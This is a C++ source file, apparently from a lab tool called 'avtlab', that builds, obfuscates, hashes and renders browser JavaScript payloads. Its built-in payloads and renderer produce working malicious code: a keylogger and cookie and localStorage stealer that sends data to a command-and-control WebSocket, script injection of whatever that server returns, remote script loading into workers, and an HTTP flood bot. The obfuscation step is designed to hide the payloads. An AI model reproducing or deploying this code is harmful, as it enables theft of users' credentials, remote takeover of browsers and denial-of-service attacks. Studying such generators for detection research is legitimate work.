#include "avtlab/payload.hpp"

#include <openssl/evp.h>

#include <algorithm>
#include <array>
#include <fstream>
#include <numeric>
#include <set>
#include <sstream>

#include "avtlab/error.hpp"
#include "avtlab/rng.hpp"

namespace avtlab::payload {

using nlohmann::json;

std::string_view to_string(SendWhat w) noexcept {
    switch (w) {
        case SendWhat::Keystrokes: return "Keystrokes";
        case SendWhat::Storage: return "Storage";
        case SendWhat::MapResult: return "MapResult";
    }
    return "Storage";
}

bool SpawnWorkerFromBlob::operator==(const SpawnWorkerFromBlob& o) const {
    return script_origin_url == o.script_origin_url && inner == o.inner;
}

bool RegisterServiceWorker::operator==(const RegisterServiceWorker& o) const {
    return inner == o.inner;
}

std::string_view op_name(const Instruction& i) noexcept {
    static constexpr std::string_view names[] = {
        "OpenSocket",          "HookKeystrokes",        "ReadCookies", "ReadWebStorage", "Send",
        "SpawnWorkerFromBlob", "RegisterServiceWorker", "ComputeMap",  "HttpFlood"};
    return names[i.op.index()];
}

// ---------------------------------------------------------------------------
// Validation

namespace {

enum class Scope { Page, Worker, ServiceWorker };

[[noreturn]] void invalid(const std::string& what) { throw Error(Errc::InvalidPayload, what); }

void check_list(const InstructionList& list, Scope scope, int& sw_count, const std::string& where) {
    std::set<std::string> opened;
    for (std::size_t n = 0; n < list.size(); ++n) {
        const std::string at = where + "[" + std::to_string(n) + "]";
        const auto& op = list[n].op;
        if (auto* s = std::get_if<OpenSocket>(&op)) {
            if (s->url.find("://") == std::string::npos) invalid(at + ": OpenSocket url '" + s->url + "' has no scheme");
            opened.insert(s->url);
        } else if (auto* s = std::get_if<Send>(&op)) {
            if (!opened.count(s->channel_url))
                invalid(at + ": Send on '" + s->channel_url + "' before OpenSocket");
        } else if (std::holds_alternative<HookKeystrokes>(op) ||
                   std::holds_alternative<ReadCookies>(op) ||
                   std::holds_alternative<ReadWebStorage>(op)) {
            if (scope != Scope::Page)
                invalid(at + ": " + std::string(op_name(list[n])) + " needs a page context");
        } else if (auto* w = std::get_if<SpawnWorkerFromBlob>(&op)) {
            if (scope == Scope::ServiceWorker) invalid(at + ": service workers cannot spawn workers");
            if (w->script_origin_url.find("://") == std::string::npos)
                invalid(at + ": script_origin_url '" + w->script_origin_url + "' has no scheme");
            check_list(w->inner, Scope::Worker, sw_count, at + ".inner");
        } else if (auto* r = std::get_if<RegisterServiceWorker>(&op)) {
            if (scope != Scope::Page) invalid(at + ": nested RegisterServiceWorker");
            if (++sw_count > 1) invalid(at + ": more than one RegisterServiceWorker");
            check_list(r->inner, Scope::ServiceWorker, sw_count, at + ".inner");
        } else if (auto* f = std::get_if<HttpFlood>(&op)) {
            if (f->target.empty()) invalid(at + ": HttpFlood target is empty");
            if (f->rate < 1 || f->duration < 1) invalid(at + ": HttpFlood rate and duration must be >= 1");
        }
    }
}

}  // namespace

void validate(const Payload& p) {
    if (p.payload_id.empty()) invalid("payload_id is empty");
    if (p.instructions.empty()) invalid(p.payload_id + ": instruction list is empty");
    if (auto* e = std::get_if<OnEvent>(&p.trigger); e && e->token.empty())
        invalid(p.payload_id + ": OnEvent token is empty");
    int sw_count = 0;
    check_list(p.instructions, Scope::Page, sw_count, p.payload_id);
}

void validate_script(const InstructionList& list) {
    int sw_count = 0;
    check_list(list, Scope::Page, sw_count, "script");
}

// ---------------------------------------------------------------------------
// JSON grammar

namespace {

json instr_to_json(const Instruction& ins) {
    json j = std::visit(
        [](const auto& v) -> json {
            using T = std::decay_t<decltype(v)>;
            if constexpr (std::is_same_v<T, OpenSocket>) {
                return {{"url", v.url}};
            } else if constexpr (std::is_same_v<T, Send>) {
                return {{"channel_url", v.channel_url}, {"what", std::string(to_string(v.what))}};
            } else if constexpr (std::is_same_v<T, SpawnWorkerFromBlob>) {
                return {{"script_origin_url", v.script_origin_url}, {"inner", to_json(v.inner)}};
            } else if constexpr (std::is_same_v<T, RegisterServiceWorker>) {
                return {{"inner", to_json(v.inner)}};
            } else if constexpr (std::is_same_v<T, ComputeMap>) {
                return {{"fn_id", std::string(to_string(v.fn_id))}};
            } else if constexpr (std::is_same_v<T, HttpFlood>) {
                return {{"target", v.target}, {"rate", v.rate}, {"duration", v.duration}};
            } else {
                return json::object();
            }
        },
        ins.op);
    j["op"] = std::string(op_name(ins));
    return j;
}

const json& need(const json& j, const char* key) {
    auto it = j.find(key);
    if (it == j.end()) throw Error(Errc::MissingField, key);
    return *it;
}

std::string need_string(const json& j, const char* key) {
    const json& v = need(j, key);
    if (!v.is_string()) throw Error(Errc::InvalidField, std::string(key) + ": expected string");
    return v.get<std::string>();
}

// Values built in code carry non-negative ints as signed; parsed text as unsigned.
bool is_u64(const json& v) { return v.is_number_unsigned() || (v.is_number_integer() && v.get<std::int64_t>() >= 0); }

std::uint64_t need_u64(const json& j, const char* key) {
    const json& v = need(j, key);
    if (!is_u64(v)) throw Error(Errc::InvalidField, std::string(key) + ": expected unsigned integer");
    return v.get<std::uint64_t>();
}

SendWhat send_what_from(std::string_view s) {
    if (s == "Keystrokes") return SendWhat::Keystrokes;
    if (s == "Storage") return SendWhat::Storage;
    if (s == "MapResult") return SendWhat::MapResult;
    throw Error(Errc::InvalidField, "what: unknown '" + std::string(s) + "'");
}

Instruction instr_from_json(const json& j) {
    if (!j.is_object()) throw Error(Errc::InvalidField, "instruction: expected object");
    const std::string op = need_string(j, "op");
    if (op == "OpenSocket") return {OpenSocket{need_string(j, "url")}};
    if (op == "HookKeystrokes") return {HookKeystrokes{}};
    if (op == "ReadCookies") return {ReadCookies{}};
    if (op == "ReadWebStorage") return {ReadWebStorage{}};
    if (op == "Send") return {Send{need_string(j, "channel_url"), send_what_from(need_string(j, "what"))}};
    if (op == "SpawnWorkerFromBlob")
        return {SpawnWorkerFromBlob{need_string(j, "script_origin_url"),
                                    instructions_from_json(need(j, "inner"))}};
    if (op == "RegisterServiceWorker")
        return {RegisterServiceWorker{instructions_from_json(need(j, "inner"))}};
    if (op == "ComputeMap") return {ComputeMap{fn_id_from_string(need_string(j, "fn_id"))}};
    if (op == "HttpFlood")
        return {HttpFlood{need_string(j, "target"), need_u64(j, "rate"), need_u64(j, "duration")}};
    throw Error(Errc::InvalidField, "op: unknown '" + op + "'");
}

}  // namespace

json to_json(const InstructionList& list) {
    json arr = json::array();
    for (const auto& i : list) arr.push_back(instr_to_json(i));
    return arr;
}

json to_json(const Payload& p) {
    return {{"payload_id", p.payload_id},
            {"trigger", trigger_to_json(p.trigger)},
            {"instructions", to_json(p.instructions)}};
}

InstructionList instructions_from_json(const json& j) {
    if (!j.is_array()) throw Error(Errc::InvalidField, "instructions: expected array");
    InstructionList out;
    out.reserve(j.size());
    for (const auto& e : j) out.push_back(instr_from_json(e));
    return out;
}

Payload payload_from_json(const json& j) {
    if (!j.is_object()) throw Error(Errc::InvalidField, "payload: expected object");
    Payload p;
    p.payload_id = need_string(j, "payload_id");
    p.trigger = trigger_from_json(need(j, "trigger"));
    p.instructions = instructions_from_json(need(j, "instructions"));
    return p;
}

Payload load_payload_file(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw Error(Errc::Io, "cannot open payload file '" + path + "'");
    json j;
    try {
        j = json::parse(in);
    } catch (const json::parse_error& e) {
        throw Error(Errc::MalformedJson, path + ": byte " + std::to_string(e.byte));
    }
    Payload p = payload_from_json(j);
    validate(p);
    return p;
}

// ---------------------------------------------------------------------------
// Obfuscation

namespace {

constexpr std::array<std::string_view, 16> kKeys = {
    "payload_id", "trigger", "instructions", "op",     "url",      "channel_url",
    "what",       "script_origin_url", "inner", "fn_id", "target", "rate",
    "duration",   "kind",    "token",  "tick"};

constexpr std::array<std::string_view, 17> kEnumTokens = {
    "OpenSocket", "HookKeystrokes", "ReadCookies", "ReadWebStorage", "Send",
    "SpawnWorkerFromBlob", "RegisterServiceWorker", "ComputeMap", "HttpFlood",
    "Keystrokes", "Storage", "MapResult", "WordCount", "SumOfSquares",
    "Immediate", "OnEvent", "AtTick"};

// Fields whose string values are enum tokens (and therefore renamed).
bool is_enum_field(std::string_view key) {
    return key == "op" || key == "what" || key == "fn_id" || key == "kind";
}

constexpr char kFirstPrintable = 0x20;
constexpr int kPrintableCount = 0x7f - 0x20;
constexpr std::size_t kHeaderLen = 20;  // "/*" + 16 hex + "*/"

struct Keying {
    std::map<std::string, std::string, std::less<>> rename;    // original -> alias
    std::map<std::string, std::string, std::less<>> restore;   // alias -> original
    std::array<char, kPrintableCount> subst{};
    std::array<char, kPrintableCount> unsubst{};
    std::uint64_t order_salt = 0;
};

Keying make_keying(std::uint64_t seed) {
    Keying k;
    Rng names(derive_seed(seed, "obfuscate/identifiers"));
    static constexpr char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    auto fresh_alias = [&] {
        for (;;) {
            std::string alias = "_";
            alias += kAlphabet[names.below(26)];
            for (int i = 0; i < 4; ++i) alias += kAlphabet[names.below(36)];
            if (!k.restore.count(alias)) return alias;
        }
    };
    for (auto key : kKeys) {
        auto alias = fresh_alias();
        k.rename.emplace(std::string(key), alias);
        k.restore.emplace(alias, std::string(key));
    }
    for (auto tok : kEnumTokens) {
        auto alias = fresh_alias();
        k.rename.emplace(std::string(tok), alias);
        k.restore.emplace(alias, std::string(tok));
    }

    std::array<int, kPrintableCount> perm{};
    std::iota(perm.begin(), perm.end(), 0);
    Rng shuffle(derive_seed(seed, "obfuscate/substitution"));
    for (int i = kPrintableCount - 1; i > 0; --i) {
        auto j = static_cast<int>(shuffle.below(static_cast<std::uint64_t>(i) + 1));
        std::swap(perm[i], perm[j]);
    }
    for (int i = 0; i < kPrintableCount; ++i) {
        k.subst[i] = static_cast<char>(kFirstPrintable + perm[i]);
        k.unsubst[perm[i]] = static_cast<char>(kFirstPrintable + i);
    }
    k.order_salt = derive_seed(seed, "obfuscate/order");
    return k;
}

std::uint64_t order_key(std::uint64_t salt, std::string_view alias) {
    std::uint64_t h = salt;
    for (unsigned char c : alias) h = mix64(h ^ c);
    return h;
}

// Compact writer with seed-salted member order. Strings are ASCII-escaped so
// the substitution only ever sees printable bytes.
void write_obfuscated(const json& j, const Keying& k, std::string& out) {
    switch (j.type()) {
        case json::value_t::object: {
            std::vector<std::pair<std::string, const json*>> members;
            for (auto it = j.begin(); it != j.end(); ++it) {
                const std::string& key = it.key();
                const json* value = &it.value();
                members.emplace_back(k.rename.at(key), value);
            }
            std::sort(members.begin(), members.end(), [&](const auto& a, const auto& b) {
                return order_key(k.order_salt, a.first) < order_key(k.order_salt, b.first);
            });
            out += '{';
            bool first = true;
            for (const auto& [alias, value] : members) {
                if (!first) out += ',';
                first = false;
                out += json(alias).dump(-1, ' ', true);
                out += ':';
                const std::string& original = k.restore.at(alias);
                if (is_enum_field(original) && value->is_string()) {
                    out += json(k.rename.at(value->get<std::string>())).dump(-1, ' ', true);
                } else {
                    write_obfuscated(*value, k, out);
                }
            }
            out += '}';
            break;
        }
        case json::value_t::array: {
            out += '[';
            for (std::size_t i = 0; i < j.size(); ++i) {
                if (i) out += ',';
                write_obfuscated(j[i], k, out);
            }
            out += ']';
            break;
        }
        default:
            out += j.dump(-1, ' ', true);
    }
}

json restore_names(const json& j, const Keying& k) {
    if (j.is_object()) {
        json out = json::object();
        for (auto it = j.begin(); it != j.end(); ++it) {
            auto found = k.restore.find(it.key());
            if (found == k.restore.end()) throw Error(Errc::CorruptBlob, "unknown identifier");
            const std::string& key = found->second;
            if (is_enum_field(key) && it->is_string()) {
                auto tok = k.restore.find(it->get<std::string>());
                if (tok == k.restore.end()) throw Error(Errc::CorruptBlob, "unknown token");
                out[key] = tok->second;
            } else {
                out[key] = restore_names(*it, k);
            }
        }
        return out;
    }
    if (j.is_array()) {
        json out = json::array();
        for (const auto& e : j) out.push_back(restore_names(e, k));
        return out;
    }
    return j;
}

std::string seed_header(std::uint64_t seed) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string h = "/*";
    for (int shift = 60; shift >= 0; shift -= 4) h += kHex[(seed >> shift) & 0xf];
    h += "*/";
    return h;
}

}  // namespace

ObfuscatedBlob ObfuscatedBlob::from_bytes(std::string bytes) {
    if (bytes.size() < kHeaderLen || bytes.compare(0, 2, "/*") != 0 ||
        bytes.compare(18, 2, "*/") != 0)
        throw Error(Errc::CorruptBlob, "missing blob header");
    std::uint64_t seed = 0;
    for (std::size_t i = 2; i < 18; ++i) {
        const char c = bytes[i];
        int v;
        if (c >= '0' && c <= '9') v = c - '0';
        else if (c >= 'a' && c <= 'f') v = c - 'a' + 10;
        else throw Error(Errc::CorruptBlob, "bad seed digit in blob header");
        seed = (seed << 4) | static_cast<std::uint64_t>(v);
    }
    return ObfuscatedBlob{std::move(bytes), seed};
}

ObfuscatedBlob obfuscate(const Payload& p, std::uint64_t seed) {
    const Keying k = make_keying(seed);
    std::string text;
    write_obfuscated(to_json(p), k, text);
    for (char& c : text) c = k.subst[static_cast<unsigned char>(c) - kFirstPrintable];
    return ObfuscatedBlob{seed_header(seed) + text, seed};
}

Payload normalize(const ObfuscatedBlob& b) {
    if (b.bytes.size() <= kHeaderLen || b.bytes.compare(0, kHeaderLen, seed_header(b.seed)) != 0)
        throw Error(Errc::CorruptBlob, "blob header does not match seed");
    const Keying k = make_keying(b.seed);
    std::string text = b.bytes.substr(kHeaderLen);
    for (char& c : text) {
        const auto u = static_cast<unsigned char>(c);
        if (u < 0x20 || u >= 0x7f) throw Error(Errc::CorruptBlob, "non-printable byte in blob body");
        c = k.unsubst[u - kFirstPrintable];
    }
    try {
        Payload p = payload_from_json(restore_names(json::parse(text), k));
        validate(p);
        return p;
    } catch (const json::exception& e) {
        throw Error(Errc::CorruptBlob, e.what());
    } catch (const Error& e) {
        if (e.code() == Errc::CorruptBlob) throw;
        throw Error(Errc::CorruptBlob, e.what());
    }
}

Digest sha256(std::string_view bytes) {
    Digest d{};
    unsigned int len = 0;
    if (EVP_Digest(bytes.data(), bytes.size(), d.data(), &len, EVP_sha256(), nullptr) != 1 ||
        len != d.size())
        throw Error(Errc::Io, "EVP_Digest(sha256) failed");
    return d;
}

Digest signature(const ObfuscatedBlob& b) { return sha256(b.bytes); }

std::string to_hex(const Digest& d) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string s;
    s.reserve(64);
    for (auto byte : d) {
        s += kHex[byte >> 4];
        s += kHex[byte & 0xf];
    }
    return s;
}

// ---------------------------------------------------------------------------
// Builtins

const std::map<std::string, Payload>& builtin_payloads() {
    static const std::map<std::string, Payload> builtins = [] {
        const std::string cnc(kDefaultCncUrl);
        std::map<std::string, Payload> m;
        m["keycookielog"] = Payload{
            "keycookielog",
            {{HookKeystrokes{}},
             {ReadCookies{}},
             {ReadWebStorage{}},
             {OpenSocket{cnc}},
             {Send{cnc, SendWhat::Storage}},
             {Send{cnc, SendWhat::Keystrokes}}},
            OnEvent{"tr1gger"}};
        m["ddos_bot"] = Payload{
            "ddos_bot",
            {{OpenSocket{cnc}}, {HttpFlood{std::string(kDefaultFloodTarget), 50, 10}}},
            Immediate{}};
        m["map_worker"] = Payload{
            "map_worker",
            {{RegisterServiceWorker{{{OpenSocket{cnc}},
                                     {ComputeMap{FnId::WordCount}},
                                     {ComputeMap{FnId::SumOfSquares}},
                                     {Send{cnc, SendWhat::MapResult}}}}}},
            Immediate{}};
        m["blob_worker"] = Payload{
            "blob_worker",
            {{SpawnWorkerFromBlob{std::string(kDefaultCdnScriptUrl),
                                  {{OpenSocket{cnc}},
                                   {ComputeMap{FnId::SumOfSquares}},
                                   {Send{cnc, SendWhat::MapResult}}}}}},
            Immediate{}};
        for (const auto& [name, p] : m) validate(p);
        return m;
    }();
    return builtins;
}

std::optional<Payload> builtin_payload(std::string_view name) {
    const auto& all = builtin_payloads();
    auto it = all.find(std::string(name));
    if (it == all.end()) return std::nullopt;
    return it->second;
}

// ---------------------------------------------------------------------------
// Rendering

namespace {

void render(const InstructionList& list, Scope scope, int depth, std::ostringstream& os) {
    const std::string pad(static_cast<std::size_t>(depth) * 2, ' ');
    const char* global = scope == Scope::Page ? "window" : "self";
    std::map<std::string, int> sockets;
    auto socket_var = [&](const std::string& url) {
        auto it = sockets.find(url);
        return "ws" + std::to_string(it == sockets.end() ? 0 : it->second);
    };
    for (const auto& ins : list) {
        std::visit(
            [&](const auto& v) {
                using T = std::decay_t<decltype(v)>;
                if constexpr (std::is_same_v<T, OpenSocket>) {
                    const int id = static_cast<int>(sockets.size());
                    sockets.emplace(v.url, id);
                    const std::string var = "ws" + std::to_string(id);
                    os << pad << "var " << var << " = new WebSocket('" << v.url << "');\n";
                    if (scope == Scope::Page) {
                        os << pad << var << ".onmessage = function (e) {\n"
                           << pad << "  var sc = document.createElement('script');\n"
                           << pad << "  sc.type = 'text/javascript';\n"
                           << pad << "  sc.appendChild(document.createTextNode(e.data));\n"
                           << pad << "  document.getElementsByTagName('body')[0].appendChild(sc);\n"
                           << pad << "};\n";
                    } else {
                        os << pad << var << ".onmessage = function (e) { " << global
                           << ".dispatchEvent(new MessageEvent('task', {data: e.data})); };\n";
                    }
                } else if constexpr (std::is_same_v<T, HookKeystrokes>) {
                    os << pad << "document.addEventListener('keydown', function (e) { keys.push(e.key); });\n";
                } else if constexpr (std::is_same_v<T, ReadCookies>) {
                    os << pad << "var cookieJar = document.cookie;\n";
                } else if constexpr (std::is_same_v<T, ReadWebStorage>) {
                    os << pad << "var stored = JSON.stringify(localStorage);\n";
                } else if constexpr (std::is_same_v<T, Send>) {
                    os << pad << socket_var(v.channel_url) << ".send(JSON.stringify(outbox."
                       << to_string(v.what) << "));\n";
                } else if constexpr (std::is_same_v<T, SpawnWorkerFromBlob>) {
                    os << pad << "var blob = new Blob([\"self.importScripts('" << v.script_origin_url
                       << "');\"], {type: 'application/javascript'});\n"
                       << pad << "var w = new Worker(URL.createObjectURL(blob));\n";
                    os << pad << "/* worker body */\n";
                    render(v.inner, Scope::Worker, depth + 1, os);
                } else if constexpr (std::is_same_v<T, RegisterServiceWorker>) {
                    os << pad << "navigator.serviceWorker.register('/sw.js').then(function (r) {\n"
                       << pad << "  return r.sync.register('sync-task');\n"
                       << pad << "});\n";
                } else if constexpr (std::is_same_v<T, ComputeMap>) {
                    os << pad << global << ".addEventListener('task', function (e) { results.push(map"
                       << to_string(v.fn_id) << "(e.data)); });\n";
                } else if constexpr (std::is_same_v<T, HttpFlood>) {
                    os << pad << "setInterval(function () { for (var i = 0; i < " << v.rate
                       << "; i++) fetch('" << v.target << "', {mode: 'no-cors'}); }, 100);\n";
                }
            },
            ins.op);
    }
}

}  // namespace

std::string render_script(const InstructionList& list) {
    std::ostringstream os;
    render(list, Scope::Page, 0, os);
    return os.str();
}

std::string render_service_worker(const InstructionList& inner) {
    std::ostringstream os;
    os << "self.addEventListener('sync', function (event) {\n"
       << "  if (event.tag === 'sync-task') {\n"
       << "    event.waitUntil(run());\n"
       << "  }\n"
       << "});\n\n"
       << "function run() {\n";
    render(inner, Scope::ServiceWorker, 1, os);
    os << "  return Promise.resolve();\n}\n";
    return os.str();
}

}  // namespace avtlab::payload
